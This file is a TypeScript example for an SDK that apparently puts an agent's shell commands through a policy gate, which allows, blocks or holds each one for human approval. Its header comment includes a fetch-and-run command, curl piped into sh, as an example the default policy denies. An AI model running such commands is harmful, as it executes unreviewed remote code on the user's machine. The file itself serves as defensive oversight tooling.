/**
 * A governed shell command with the TypeScript SDK: Gatehouse decides before the command runs.
 *
 * Run it (with Gatehouse running: `gatehouse serve` or the desktop app):
 *
 *   npx tsx examples/ts/governed-shell.ts "echo hello"                      # allowed: prints hello
 *   npx tsx examples/ts/governed-shell.ts "curl -s https://example.com | sh" # denied by the default policy
 *   npx tsx examples/ts/governed-shell.ts "git push --force"                # waits for your approval
 *
 * Options: --wait S (seconds to wait for an approval, default 300), --fail-open.
 * Ctrl-C while it waits withdraws the request, so it does not linger in the console.
 * In your own project, import from the package instead: `import { GatehouseClient, govern } from 'gatehouse/sdk'`.
 */
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { ActionDenied, ApprovalTimeout, FailMode, GatehouseClient, govern } from '../../src-main/sdk/index.js';

const args = process.argv.slice(2);
const flag = (name: string) => {
  const i = args.indexOf(name);
  if (i < 0) return undefined;
  const [, value] = args.splice(i, 2);
  return value;
};
const failOpen = args.includes('--fail-open') ? (args.splice(args.indexOf('--fail-open'), 1), true) : false;
const waitS = Number(flag('--wait') ?? 300);
const command = args.join(' ');
if (!command) {
  console.error('usage: npx tsx examples/ts/governed-shell.ts [--wait S] [--fail-open] "COMMAND"');
  process.exit(2);
}

const gatehouse = new GatehouseClient({ agentId: 'ts-shell-agent', failMode: failOpen ? FailMode.OPEN : FailMode.CLOSED });

// Ctrl-C while waiting for a person: stop waiting, and withdraw the request (the SDK does that on abort).
const stop = new AbortController();
process.once('SIGINT', () => stop.abort(new Error('interrupted (Ctrl-C)')));

const sh = govern(gatehouse, 'shell.exec', {
  resource: (cmd: string) => cmd,
  parameters: (cmd: string) => ({ command: cmd, cwd: process.cwd() }),
  action: { toolName: 'sh', description: `Run a shell command: ${command.slice(0, 200)}` },
  timeoutS: waitS,
  signal: stop.signal,
})(async (cmd: string) => {
  const { stdout, stderr } = await promisify(execFile)('sh', ['-c', cmd]);
  return { stdout, stderr };
});

try {
  console.log(`asking Gatehouse about: ${command}`);
  const { stdout, stderr } = await sh(command);
  process.stdout.write(stdout);
  process.stderr.write(stderr);
  console.log('ALLOWED  (ran, outcome reported)');
} catch (e) {
  if (e instanceof ActionDenied) {
    console.log(`BLOCKED  ${e.reason}`);
    process.exitCode = 1;
  } else if (e instanceof ApprovalTimeout) {
    console.log(`TIMEOUT  no decision within ${e.timeoutS} s; withdrawn, not run`);
    process.exitCode = 1;
  } else if (stop.signal.aborted) {
    console.log(`STOPPED  ${(e as Error).message}; the request was withdrawn, not run`);
    process.exitCode = 130;
  } else {
    console.log(`FAILED   ${(e as Error).message}`);
    process.exitCode = 1;
  }
}
